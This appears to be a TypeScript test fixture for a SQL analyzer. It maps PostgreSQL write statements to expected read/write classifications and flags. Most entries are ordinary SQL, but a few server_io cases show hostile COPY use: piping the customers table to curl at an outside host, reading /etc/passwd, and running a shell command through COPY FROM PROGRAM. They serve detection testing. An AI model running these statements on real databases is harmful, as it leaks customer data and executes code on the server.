/** Statements that change rows or move them in bulk. */
export const WRITES = `
insert | w:public.products(sku) kind:insert | INSERT INTO products (sku) VALUES ('a')
insert | w:public.products(*) | INSERT INTO products VALUES (1, 'a')
insert | w:public.products(*) | INSERT INTO products DEFAULT VALUES
insert,read | r:public.customers(name) w:public.products(title) | INSERT INTO products (title) SELECT name FROM customers
insert,read | rw:public.products(id,sku) | INSERT INTO products (sku) VALUES ('a') RETURNING id
insert,read | rw:public.products(*) | INSERT INTO products (sku) VALUES ('a') RETURNING *
insert,update | w:public.products(price,sku) | INSERT INTO products (sku) VALUES ('a') ON CONFLICT (sku) DO UPDATE SET price = 1
insert,update | w:public.products(price,sku) | INSERT INTO products (sku, price) VALUES ('a', 1) ON CONFLICT (sku) DO UPDATE SET price = excluded.price
insert | w:public.products(sku) | INSERT INTO products (sku) VALUES ('a') ON CONFLICT DO NOTHING
insert,read | r:public.customers(email) w:public.products(sku) | INSERT INTO products (sku) VALUES ((SELECT email FROM customers LIMIT 1))
insert,read,delete | rw:public.orders(*) w:archive.invoices(id) unbounded | WITH d AS (DELETE FROM orders RETURNING id) INSERT INTO archive.invoices (id) SELECT id FROM d
insert | w:public.orders(status) | INSERT INTO orders (status) VALUES ('new'), (DEFAULT)
insert | w:public.products(tags) | INSERT INTO products (tags[1]) VALUES ('a')
insert | w:public.customers(home) | INSERT INTO customers (home.city) VALUES ('a')
insert | w:public.products(id) | INSERT INTO products (id) OVERRIDING SYSTEM VALUE VALUES (1)
insert,routine | w:public.ledger(*) | INSERT INTO ledger VALUES (1, 2)
insert | w:public.events(*) w:public.events_2025(*) w:public.events_2026(*) | INSERT INTO events VALUES (1, '2026-01-01', '{}')
insert,read | w:public.customer_names(*) rw:public.customers(*) | INSERT INTO customer_names VALUES (1, 'a')
update | rw:public.customers(id,name) | UPDATE customers SET name = 'a' WHERE id = 1
update | w:public.customers(name) unbounded | UPDATE customers SET name = 'a'
update | w:public.customers(name) unbounded | UPDATE customers SET name = 'a' WHERE true
update | w:public.customers(name) unbounded | UPDATE customers SET name = 'a' WHERE 1 = 1
update,read | rw:public.customers(email,id,name) | UPDATE customers SET name = 'a' WHERE id = 1 RETURNING email
update | rw:public.customers(email,id,name) | UPDATE customers SET (name, email) = ('a', 'b') WHERE id = 1
update,read | r:public.orders(status) rw:public.customers(id,name) | UPDATE customers SET name = (SELECT status::text FROM orders LIMIT 1) WHERE id = 1
update,read | r:public.orders(id,status) rw:public.customers(email,id,name) | UPDATE customers SET (name, email) = (SELECT status::text, id::text FROM orders LIMIT 1) WHERE id = 1
update,read | r:public.orders(customer_id) rw:public.customers(id,vip) | UPDATE customers c SET vip = true FROM orders o WHERE o.customer_id = c.id
update | rw:public.products(id,tags) | UPDATE products SET tags[1] = 'a' WHERE id = 1
update | rw:public.customers(home,id) | UPDATE customers SET home.city = 'a' WHERE id = 1
update | rw:public.customers(id,vip) | UPDATE customers SET vip = DEFAULT WHERE id = 1
update | rw:public.customers(vip) | UPDATE customers SET vip = true WHERE CURRENT OF c
update | rw:public.notes(body,id) rw:public.notes_private(body,id) | UPDATE notes SET body = 'a' WHERE id = 1
update | rw:public.notes(body,id) | UPDATE ONLY notes SET body = 'a' WHERE id = 1
update,read | rw:public.customers(*) | UPDATE customers SET name = 'a' WHERE id = 1 RETURNING customers
update,read | pg18 rw:public.customers(email,id,name) | UPDATE customers SET name = 'a' WHERE id = 1 RETURNING old.email, new.name
update,read | pg18 rw:public.customers(email,id,name) | UPDATE customers SET name = 'a' WHERE id = 1 RETURNING WITH (OLD AS o) o.email
delete | rw:public.customers(*) | DELETE FROM customers WHERE id = 1
delete | w:public.customers(*) unbounded | DELETE FROM customers
delete,read | rw:public.customers(*) | DELETE FROM customers WHERE id = 1 RETURNING email
delete,read | r:public.orders(customer_id) rw:public.customers(*) | DELETE FROM customers USING orders o WHERE o.customer_id = customers.id
delete,read | r:public.orders(customer_id) rw:public.customers(*) | DELETE FROM customers WHERE id IN (SELECT customer_id FROM orders)
delete | w:public.events(*) w:public.events_2025(*) w:public.events_2026(*) unbounded | DELETE FROM events
delete | w:public.events(*) unbounded | DELETE FROM ONLY events
update,insert,read | r:public.orders(customer_id) rw:public.customers(id,name,vip) | MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN MATCHED THEN UPDATE SET vip = true WHEN NOT MATCHED THEN INSERT (name) VALUES ('a')
delete,read | r:public.orders(customer_id) rw:public.customers(*) | MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN MATCHED THEN DELETE
delete,read | r:public.orders() rw:public.customers(*) unbounded | MERGE INTO customers c USING orders o ON true WHEN MATCHED THEN DELETE
delete,read | pg18 unbounded r:public.orders(customer_id) rw:public.customers(*) | MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN NOT MATCHED BY SOURCE THEN DELETE
update,read | pg18 r:public.orders(customer_id) rw:public.customers(email,id,vip) | MERGE INTO customers c USING orders o ON o.customer_id = c.id WHEN MATCHED THEN UPDATE SET vip = true RETURNING merge_action(), c.email
truncate | w:public.orders(*) kind:truncate | TRUNCATE orders
truncate | w:public.customers(*) w:public.orders(*) | TRUNCATE TABLE customers, orders CASCADE
truncate,alter | w:public.orders(*) | TRUNCATE orders RESTART IDENTITY
truncate | w:public.events(*) w:public.events_2025(*) w:public.events_2026(*) | TRUNCATE events
read,delete | rw:public.customers(*) unbounded | WITH d AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM d
read,update | rw:public.customers(id,name) | WITH u AS (UPDATE customers SET name = 'x' WHERE id = 1 RETURNING id) SELECT * FROM u
read,insert | w:public.products(sku) | WITH i AS (INSERT INTO products (sku) VALUES ('a')) SELECT 1
read,create,insert | r:public.customers(*) w:copied(*) kind:select_into | SELECT * INTO copied FROM customers
read,create,insert | r:public.customers(email) w:copied(*) | SELECT email INTO TEMP copied FROM customers
read,create,insert | r:public.customers(email) w:copied(*) kind:create_table_as | CREATE TABLE copied AS SELECT email FROM customers
read,create | r:public.customers(email) w:copied(*) | CREATE TABLE copied AS SELECT email FROM customers WITH NO DATA
create,insert,session | w:copied(*) name:execute=p | CREATE TABLE copied AS EXECUTE p
read,create,insert | r:public.customers(email) w:copied(*) kind:create_materialized_view | CREATE MATERIALIZED VIEW copied AS SELECT email FROM customers
read,maintenance | r:public.orders(customer_id,total) w:public.order_totals(*) | REFRESH MATERIALIZED VIEW order_totals
read,maintenance | r:public.orders(customer_id,total) w:public.order_totals(*) | REFRESH MATERIALIZED VIEW CONCURRENTLY order_totals
export,read | r:public.customers(*) kind:copy_to | COPY customers TO STDOUT
export,read | r:public.customers(email) | COPY customers (email) TO STDOUT WITH (FORMAT csv, HEADER)
export,read | r:public.customers(email) | COPY (SELECT email FROM customers) TO STDOUT
export,read,server_io | r:public.customers(*) | COPY customers TO '/tmp/customers.csv'
export,read,server_io | r:public.customers(*) | COPY customers TO PROGRAM 'curl http://example.com -d @-'
export,read,delete | rw:public.customers(*) unbounded | COPY (DELETE FROM customers RETURNING *) TO STDOUT
export,read,delete | rw:public.customers(*) unbounded | COPY (WITH x AS (DELETE FROM customers RETURNING *) SELECT * FROM x) TO STDOUT
export,read | none | COPY (VALUES (1)) TO STDOUT
export,insert,read | rw:public.products(id,sku) | COPY (INSERT INTO products (sku) VALUES ('a') RETURNING id) TO STDOUT
import,insert | w:public.products(*) kind:copy_from | COPY products FROM STDIN
import,insert | w:public.products(price,sku) | COPY products (sku, price) FROM STDIN WITH CSV
import,insert | w:public.products(price,sku) | COPY products (sku) FROM STDIN WHERE price > 1
import,insert,server_io | w:public.products(*) | COPY products FROM '/etc/passwd'
import,insert,server_io | w:public.products(*) | COPY products FROM PROGRAM 'id'
import,insert,routine | w:public.products(*) | COPY products FROM STDIN WHERE add_tax(price) > 1
update,read | w:public.tickets() | SELECT nextval('tickets')
alter,read | w:public.tickets() | SELECT setval('public.tickets', 1)
update,insert | w:public.products(id) w:public.tickets() | INSERT INTO products (id) VALUES (nextval('tickets'))
`;
